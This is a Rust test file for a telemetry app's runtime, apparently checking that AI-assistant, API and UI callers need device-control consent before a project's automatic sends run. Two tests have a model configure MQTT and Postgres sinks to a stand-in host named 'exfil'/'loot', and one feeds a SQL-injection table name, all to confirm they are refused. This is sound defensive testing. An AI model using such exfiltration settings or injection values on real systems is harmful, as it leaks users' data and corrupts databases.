//! Connecting a project whose actions send by themselves (on connect, or a timer while
//! connected) touches the device, so it needs the consent a send needs, from every caller:
//! a real TCP device records what reaches it, and each row says who calls, with what
//! consent, and whether the connect runs.

use std::sync::{Arc, Mutex};
use std::time::Duration;

use serde_json::{json, Value};
use sextant_commands::{CommandError, ErrorCode, Policy};
use sextant_runtime::{Caller, Consent, Runtime, Workspace, UI_POLICY};
use sextant_telemetry::Project;
use tokio::io::AsyncReadExt;

/// A device on a local TCP port that records every byte it is sent, across connections.
struct Device {
    port: u16,
    received: Arc<Mutex<Vec<u8>>>,
}

impl Device {
    async fn start() -> Device {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let received = Arc::new(Mutex::new(Vec::new()));
        let log = received.clone();
        tokio::spawn(async move {
            while let Ok((mut stream, _)) = listener.accept().await {
                let log = log.clone();
                tokio::spawn(async move {
                    let mut buf = [0u8; 256];
                    while let Ok(n) = stream.read(&mut buf).await {
                        if n == 0 {
                            break;
                        }
                        log.lock().unwrap().extend_from_slice(&buf[..n]);
                    }
                });
            }
        });
        Device { port, received }
    }

    fn received(&self) -> String {
        String::from_utf8_lossy(&self.received.lock().unwrap()).into_owned()
    }
}

fn project(port: u16, actions: Value) -> Project {
    serde_json::from_value(json!({
        "title": "Bench",
        "sources": [{"id": "dev", "title": "Bench supply",
                     "connection": {"type": "tcp", "host": "127.0.0.1", "port": port},
                     "parser": {"kind": "delimited", "separator": ","}}],
        "groups": [{"id": "g", "title": "G", "datasets": [{"id": "v", "title": "V", "index": 1}]}],
        "actions": actions,
    }))
    .expect("a valid project")
}

const ASSISTANT_EDITS_APPROVED: Policy = Policy {
    auto_approve_edits: true,
    allow_device_control: false,
    non_interactive: false,
    allow_process_sources: false,
    paths_from_person: false,
};

const ASSISTANT_WITH_DEVICE_CONTROL: Policy = Policy {
    allow_device_control: true,
    ..ASSISTANT_EDITS_APPROVED
};

const HEADLESS: Policy = Policy {
    auto_approve_edits: true,
    allow_device_control: false,
    non_interactive: true,
    allow_process_sources: false,
    paths_from_person: true,
};

const HEADLESS_WITH_DEVICE_CONTROL: Policy = Policy {
    allow_device_control: true,
    ..HEADLESS
};

fn connect(
    rt: &mut Runtime,
    caller: Caller,
    policy: Policy,
    consent: Consent,
) -> Result<Value, CommandError> {
    rt.execute_as(caller, "io.connect", json!({}), policy, consent)
}

fn connected(rt: &mut Runtime) -> bool {
    rt.execute(Caller::Ui, "io.status", json!({}), UI_POLICY, false)
        .unwrap()["connected"]
        == true
}

fn disconnect(rt: &mut Runtime) {
    rt.execute(Caller::Ui, "io.disconnect", json!({}), UI_POLICY, false)
        .unwrap();
}

async fn wait_until(what: &str, mut cond: impl FnMut() -> bool) {
    for _ in 0..1500 {
        if cond() {
            return;
        }
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    panic!("timed out: {what}");
}

/// A row: who calls, under what policy, with what consent; the refusal's code and words.
type Refusal = (
    &'static str,
    Caller,
    Policy,
    Consent,
    ErrorCode,
    &'static [&'static str],
);

/// What a refused connect must be: the code, and words that name what it would have sent.
fn refused(result: Result<Value, CommandError>, code: ErrorCode, says: &[&str], row: &str) {
    let e = result.expect_err(row);
    assert_eq!(e.code, code, "{row}: {e:?}");
    for words in says {
        assert!(
            e.message.contains(words),
            "{row}: `{words}` not in {}",
            e.message
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn connecting_a_project_that_sends_by_itself_needs_device_consent_from_every_caller() {
    let device = Device::start().await;
    let actions = json!([
        {"id": "wake", "title": "Wake", "payload": "WAKE", "lineEnding": "lf", "onConnect": true},
        {"id": "poll", "title": "Read volts", "payload": "V?", "timerMs": 50},
        {"id": "click", "title": "Reset", "payload": "RST"},
    ]);
    let mut rt = Runtime::new(Workspace::new(project(device.port, actions)));

    // Who calls, with what consent: refused, with what it would have sent named.
    let refusals: &[Refusal] = &[
        (
            "a model with edits auto-approved, device control off",
            Caller::Assistant,
            ASSISTANT_EDITS_APPROVED,
            Consent::None,
            ErrorCode::NotAllowed,
            &["allow device control", "“Wake”", "“Read volts”"],
        ),
        (
            "a model with device control on, nobody asked",
            Caller::Assistant,
            ASSISTANT_WITH_DEVICE_CONTROL,
            Consent::None,
            ErrorCode::NotAllowed,
            &["approval"],
        ),
        (
            "a headless server started without --allow-device-control",
            Caller::Api,
            HEADLESS,
            Consent::None,
            ErrorCode::NotAllowed,
            &["--allow-device-control", "“WAKE”"],
        ),
        (
            "a person's yes does not stand in for device control being off",
            Caller::Assistant,
            ASSISTANT_EDITS_APPROVED,
            Consent::Person,
            ErrorCode::NotAllowed,
            &["allow device control"],
        ),
        (
            "a click in the app, these sends never allowed for this project",
            Caller::Ui,
            UI_POLICY,
            Consent::Door,
            ErrorCode::NeedsConfirmation,
            &[
                "without a click",
                "every 50 ms",
                "when it connects",
                "to Bench supply",
            ],
        ),
    ];
    for (row, caller, policy, consent, code, says) in refusals {
        refused(
            connect(&mut rt, *caller, *policy, *consent),
            *code,
            says,
            row,
        );
        assert!(!connected(&mut rt), "{row}: connected anyway");
    }
    // Refused before anything connected: the device never even saw a connection's bytes.
    tokio::time::sleep(Duration::from_millis(200)).await;
    assert_eq!(device.received(), "", "bytes reached the device");

    // The person's yes in the app: the sends run, and are remembered for these sends.
    connect(&mut rt, Caller::Ui, UI_POLICY, Consent::Person).expect("the person said yes");
    wait_until("the wake-up and two polls arrive", || {
        let got = device.received();
        // Two actions run side by side: the poll's first send may come before the wake-up.
        got.contains("WAKE\n") && got.matches("V?").count() >= 2
    })
    .await;
    assert!(
        !device.received().contains("RST"),
        "a click action sent by itself"
    );
    disconnect(&mut rt);

    // The next click on Connect needs no question; the model still needs the person's yes.
    refused(
        connect(
            &mut rt,
            Caller::Assistant,
            ASSISTANT_WITH_DEVICE_CONTROL,
            Consent::None,
        ),
        ErrorCode::NotAllowed,
        &["approval"],
        "a model after the person allowed the sends in the app",
    );
    connect(&mut rt, Caller::Ui, UI_POLICY, Consent::Door).expect("remembered for the app");
    assert!(connected(&mut rt));
    disconnect(&mut rt);

    // A changed payload is a different send: asked again.
    rt.execute(
        Caller::Ui,
        "project.action.update",
        json!({"id": "wake", "changes": {"payload": "ERASE"}}),
        UI_POLICY,
        false,
    )
    .unwrap();
    refused(
        connect(&mut rt, Caller::Ui, UI_POLICY, Consent::Door),
        ErrorCode::NeedsConfirmation,
        &["“ERASE”"],
        "a click after the payload changed",
    );
    assert!(!connected(&mut rt));

    // A headless server whose person gave --allow-device-control: the flag is the consent.
    connect(
        &mut rt,
        Caller::Mcp,
        HEADLESS_WITH_DEVICE_CONTROL,
        Consent::None,
    )
    .expect("the flag is the consent");
    wait_until("the changed wake-up arrives", || {
        device.received().contains("ERASE\n")
    })
    .await;
    disconnect(&mut rt);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_project_whose_actions_wait_for_a_click_connects_as_before() {
    let device = Device::start().await;
    let actions = json!([
        {"id": "click", "title": "Reset", "payload": "RST"},
        {"id": "toggle", "title": "Stream", "payload": "S", "timerMs": 20, "timer": "toggleOnClick"},
    ]);
    let mut rt = Runtime::new(Workspace::new(project(device.port, actions)));
    for (row, caller, policy, consent) in [
        ("a click in the app", Caller::Ui, UI_POLICY, Consent::Door),
        (
            "a model with edits approved",
            Caller::Assistant,
            ASSISTANT_EDITS_APPROVED,
            Consent::None,
        ),
        ("a headless server", Caller::Api, HEADLESS, Consent::None),
    ] {
        connect(&mut rt, caller, policy, consent).unwrap_or_else(|e| panic!("{row}: {e:?}"));
        assert!(connected(&mut rt), "{row}");
        disconnect(&mut rt);
    }
    tokio::time::sleep(Duration::from_millis(100)).await;
    assert_eq!(device.received(), "", "an action sent without a click");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_model_that_turns_on_the_mqtt_publisher_cannot_connect_it_without_a_yes() {
    let device = Device::start().await;
    let mut rt = Runtime::new(Workspace::new(project(device.port, json!([]))));
    // An edit, auto-approved: sending every frame to a broker of the model's choosing.
    rt.execute_as(
        Caller::Assistant,
        "mqtt.publisher.configure",
        json!({"publisher": {"enabled": true, "host": "203.0.113.9", "port": 1883,
                             "topic": "exfil", "rateHz": 10}}),
        ASSISTANT_EDITS_APPROVED,
        Consent::None,
    )
    .expect("an edit");
    refused(
        connect(
            &mut rt,
            Caller::Assistant,
            ASSISTANT_EDITS_APPROVED,
            Consent::None,
        ),
        ErrorCode::NotAllowed,
        &["allow device control", "mqtt://203.0.113.9:1883", "“exfil”"],
        "the model connects what it configured",
    );
    refused(
        connect(&mut rt, Caller::Ui, UI_POLICY, Consent::Door),
        ErrorCode::NeedsConfirmation,
        &["published to mqtt://203.0.113.9:1883"],
        "the person's click on Connect, never asked about the broker",
    );
    assert!(!connected(&mut rt));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_model_that_turns_on_the_postgres_sink_cannot_connect_it_without_a_yes() {
    let device = Device::start().await;
    let mut rt = Runtime::new(Workspace::new(project(device.port, json!([]))));
    // An edit, auto-approved: every value to a database of the model's choosing.
    rt.execute_as(
        Caller::Assistant,
        "postgres.configure",
        json!({"postgres": {"enabled": true, "host": "203.0.113.9", "port": 5432,
                            "database": "exfil", "user": "me", "table": "loot"}}),
        ASSISTANT_EDITS_APPROVED,
        Consent::None,
    )
    .expect("an edit");
    refused(
        connect(
            &mut rt,
            Caller::Assistant,
            ASSISTANT_EDITS_APPROVED,
            Consent::None,
        ),
        ErrorCode::NotAllowed,
        &[
            "allow device control",
            "postgresql://me@203.0.113.9:5432/exfil",
            "“loot”",
        ],
        "the model connects what it configured",
    );
    refused(
        connect(&mut rt, Caller::Ui, UI_POLICY, Consent::Door),
        ErrorCode::NeedsConfirmation,
        &["written to the table “loot” of the database postgresql://me@203.0.113.9:5432/exfil"],
        "the person's click on Connect, never asked about the database",
    );
    assert!(!connected(&mut rt));
    // A table name that could close its quotes is refused before it is stored.
    let bad = rt.execute_as(
        Caller::Assistant,
        "postgres.configure",
        json!({"postgres": {"enabled": true, "host": "h", "database": "d", "user": "u",
                            "table": "t\"; DROP TABLE x; --"}}),
        ASSISTANT_EDITS_APPROVED,
        Consent::None,
    );
    assert_eq!(bad.unwrap_err().code, ErrorCode::InvalidParams);
}
